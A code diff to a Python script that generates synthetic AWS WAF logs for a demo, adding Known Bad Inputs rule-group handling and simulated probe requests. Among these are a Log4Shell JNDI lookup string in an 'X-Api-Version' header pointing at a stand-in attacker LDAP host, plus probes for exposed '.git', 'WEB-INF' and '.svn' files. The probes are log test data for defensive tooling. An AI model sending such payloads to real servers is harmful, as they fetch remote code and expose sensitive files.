@@ -137,12 +137,25 @@ def headers(r: Req) -> list[dict[str, str]]:
     return [{"name": n, "value": v} for n, v in out]
 
 
+# AWS's Known bad inputs group in the demo ACL: what its log entries record, per probe kind
+# (inner rule, label). AWS's rules are not published; the log says which one matched.
+KNOWN_BAD_INPUTS = "AWS#AWSManagedRulesKnownBadInputsRuleSet"
+KBI_NAMESPACE = "awswaf:managed:aws:known-bad-inputs:"
+KBI_RULES = {
+    "log4j": ("Log4JRCE_HEADER", KBI_NAMESPACE + "Log4JRCE_Header"),
+    "exploitable-path": ("ExploitablePaths_URIPATH", KBI_NAMESPACE + "ExploitablePaths_URIPath"),
+}
+
+
 def decide(
-    r: Req, login_hits: dict[str, list[int]]
+    r: Req, login_hits: dict[str, list[int]], groups: list[dict[str, object]] | None = None
 ) -> tuple[str, str, str, list[str], list[str], int | None]:
-    """(action, rule, rule type, labels, non-terminating rule ids, custom status) per the demo ACL."""
+    """(action, rule, rule type, labels, non-terminating rule ids, custom status) per the demo ACL.
+
+    `groups` receives the ruleGroupList entries of the rule groups evaluated."""
     labels: list[str] = []
     counted: list[str] = []
+    groups = [] if groups is None else groups
     if r.ip in ALLOW_LIST:
         return "ALLOW", "allow-partners", "REGULAR", labels, counted, None
     if r.ip in BLOCK_LIST:
@@ -150,6 +163,18 @@ def decide(
     labels += [f"awswaf:clientip:geo:country:{r.country}", f"awswaf:clientip:geo:region:{REGIONS[r.country]}"]
     if r.country in GEO_BLOCKED:
         return "BLOCK", "geo-block", "REGULAR", labels, counted, None
+    entry: dict[str, object] = {
+        "ruleGroupId": KNOWN_BAD_INPUTS,
+        "terminatingRule": None,
+        "nonTerminatingMatchingRules": [],
+        "excludedRules": None,
+    }
+    groups.append(entry)
+    if r.attack in KBI_RULES:
+        inner, label = KBI_RULES[r.attack]
+        entry["terminatingRule"] = {"ruleId": inner, "action": "BLOCK", "ruleMatchDetails": []}
+        labels.append(label)
+        return "BLOCK", "aws-known-bad-inputs", "MANAGED_RULE_GROUP", labels, counted, None
     ua = (r.ua or "").lower()
     if BAD_BOT.search(ua):
         return "BLOCK", "block-bad-bots", "REGULAR", labels, counted, None
@@ -440,7 +465,8 @@ def request_id(rng: random.Random, ms: int) -> str:
 
 
 def waf_record(r: Req, rng: random.Random, hits: dict[str, list[int]]) -> dict[str, object]:
-    action, rule, rule_type, labels, counted, status = decide(r, hits)
+    groups: list[dict[str, object]] = []
+    action, rule, rule_type, labels, counted, status = decide(r, hits, groups)
     if r.logged_override:
         action, rule = r.logged_override
         rule_type, status = "REGULAR", (403 if rule == "admin-office-only" else None)
@@ -465,7 +491,7 @@ def waf_record(r: Req, rng: random.Random, hits: dict[str, list[int]]) -> dict[s
         "terminatingRuleMatchDetails": details,
         "httpSourceName": "ALB",
         "httpSourceId": f"{ACCOUNT}-{ALB_ID}",
-        "ruleGroupList": [],
+        "ruleGroupList": groups,
         "rateBasedRuleList": [
             {
                 "rateBasedRuleId": "c0ffee00-1234-4abc-9def-0123456789ab",
@@ -640,9 +666,46 @@ def request_lines(rng: random.Random) -> list[dict[str, object]]:
     return lines
 
 
+def known_bad_inputs(rng: random.Random) -> list[Req]:
+    """Probes AWS's Known bad inputs group blocks: Log4Shell in a header, exploitable paths.
+
+    Two Log4Shell probes were logged while the group was in Count mode (OverrideAction Count:
+    the record keeps the group's terminating rule, the request went on to the default Allow).
+    """
+    reqs = []
+    for i in range(4):
+        reqs.append(
+            Req(
+                START_MS + rng.randrange(3_600_000),
+                f"198.51.100.{rng.randrange(64, 69)}",
+                "US",
+                "GET",
+                "/",
+                ua=BROWSERS[1],
+                attack="log4j",
+                extra_headers=[("X-Api-Version", "${jndi:ldap://198.51.100.66:1389/a}")],
+                logged_override=("ALLOW", "Default_Action") if i < 2 else None,
+            )
+        )
+    for path in ("/.git/config", "/WEB-INF/web.xml", "/static/.svn/entries"):
+        reqs.append(
+            Req(
+                START_MS + rng.randrange(3_600_000),
+                "198.51.100.69",
+                "NL",
+                "GET",
+                path,
+                ua=BROWSERS[2],
+                attack="exploitable-path",
+            )
+        )
+    return reqs
+
+
 def main() -> None:
     rng = random.Random(20240514)
-    waf_reqs = story(rng, shoppers=110)
+    waf_reqs = story(rng, shoppers=110) + known_bad_inputs(random.Random(20240517))
+    waf_reqs.sort(key=lambda r: r.ms)
     hits: dict[str, list[int]] = {}
     records = [json.dumps(waf_record(r, rng, hits), separators=(",", ":")) for r in waf_reqs]
     (HERE / "waf-logs.jsonl.gz").write_bytes(gzip.compress(("\n".join(records) + "\n").encode(), mtime=0))
